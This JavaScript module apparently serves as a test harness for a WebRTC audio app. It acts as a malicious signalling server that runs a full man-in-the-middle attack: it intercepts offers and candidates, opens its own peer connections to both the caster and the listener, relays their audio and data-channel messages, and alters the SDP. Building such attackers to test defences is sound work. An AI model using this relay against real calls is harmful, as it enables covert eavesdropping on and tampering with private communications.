// A signalling server that sits in the middle for real: two connections of its own, sound and words passed between.

/** Opens the attacker's page and returns what `between` needs. `page` is any page on loopback. */
export async function attacker(page) {
  const links = { caster: null, listener: null };
  let members = null;
  await page.exposeFunction('tell', (side, message) => {
    const { caster, listener } = members;
    const [link, from] = side === 'caster' ? [links.caster, listener] : [links.listener, caster];
    link.toPage({ ...message, from });
  });
  await page.evaluate(takeTheMiddle);
  let work = Promise.resolve();
  const pass = (side, message) => {
    work = work.then(() => page.evaluate(([from, said]) => window.receive(from, said), [side, message]));
  };
  const said = (message, link) => {
    if (link.from === 'page' && message.kind === 'create') links.caster = link;
    if (link.from === 'page' && message.kind === 'join') links.listener = link;
    const isSignal = ['offer', 'answer', 'candidate', 'end-of-candidates'].includes(message.kind);
    if (!isSignal) return note(message);
    // What the pages say ends here; the server is not even needed any more.
    if (link.from === 'page') pass(link.toPage === links.caster?.toPage ? 'caster' : 'listener', message);
    return null;
  };
  const note = (message) => {
    const isListener = message.kind === 'joined' && message.welcome?.you.role === 'listener';
    if (isListener) {
      const caster = message.welcome.members.find(({ role }) => role === 'caster');
      members = { caster: caster.id, listener: message.welcome.you.id };
    }
    return message;
  };
  return { said };
}

/** In the attacker's page: one peer towards each victim. */
function takeTheMiddle() {
  const toCaster = new RTCPeerConnection();
  const toListener = new RTCPeerConnection();
  const sender = toListener.addTransceiver('audio', { direction: 'sendonly' }).sender;
  const down = toListener.createDataChannel('unisono/1');
  const early = { down: [] };
  toCaster.ontrack = ({ track }) => {
    const stream = new MediaStream([track]);
    // A remote track flows only while an element plays it, and goes on to a sender only by Web Audio.
    void Object.assign(new Audio(), { muted: true, srcObject: stream }).play();
    const context = new AudioContext();
    const onward = context.createMediaStreamDestination();
    context.createMediaStreamSource(stream).connect(onward);
    void sender.replaceTrack(onward.stream.getAudioTracks()[0]);
  };
  toCaster.ondatachannel = ({ channel: up }) => {
    up.onmessage = ({ data }) => (down.readyState === 'open' ? down.send(data) : early.down.push(data));
    down.onmessage = ({ data }) => up.send(data);
    down.onopen = () => early.down.splice(0).forEach((data) => down.send(data));
  };
  for (const [side, peer] of [['caster', toCaster], ['listener', toListener]]) {
    peer.onicecandidate = ({ candidate }) => {
      if (candidate?.candidate) window.tell(side, { kind: 'candidate', candidate: candidate.candidate, mid: candidate.sdpMid });
    };
  }
  const held = { caster: [], listener: [] };
  const addCandidate = async (side, peer, message) => {
    const candidate = { candidate: message.candidate, sdpMid: message.mid ?? '0' };
    if (peer.remoteDescription) await peer.addIceCandidate(candidate);
    else held[side].push(candidate);
  };
  const release = async (side, peer) => {
    for (const candidate of held[side].splice(0)) await peer.addIceCandidate(candidate);
  };
  window.receive = async (side, message) => {
    const peer = side === 'caster' ? toCaster : toListener;
    if (message.kind === 'candidate') await addCandidate(side, peer, message);
    if (message.kind === 'offer') {
      await toCaster.setRemoteDescription({ type: 'offer', sdp: message.sdp });
      await release('caster', toCaster);
      const { sdp } = await toCaster.createAnswer();
      await toCaster.setLocalDescription({ type: 'answer', sdp: sdp.replace('useinbandfec=1', 'useinbandfec=1;stereo=1;sprop-stereo=1') });
      window.tell('caster', { kind: 'answer', sdp: toCaster.localDescription.sdp });
      await toListener.setLocalDescription(await toListener.createOffer());
      window.tell('listener', { kind: 'offer', sdp: toListener.localDescription.sdp });
    }
    if (message.kind === 'answer') {
      await toListener.setRemoteDescription({ type: 'answer', sdp: message.sdp });
      await release('listener', toListener);
    }
  };
  window.states = () => [toCaster.connectionState, toListener.connectionState];
}
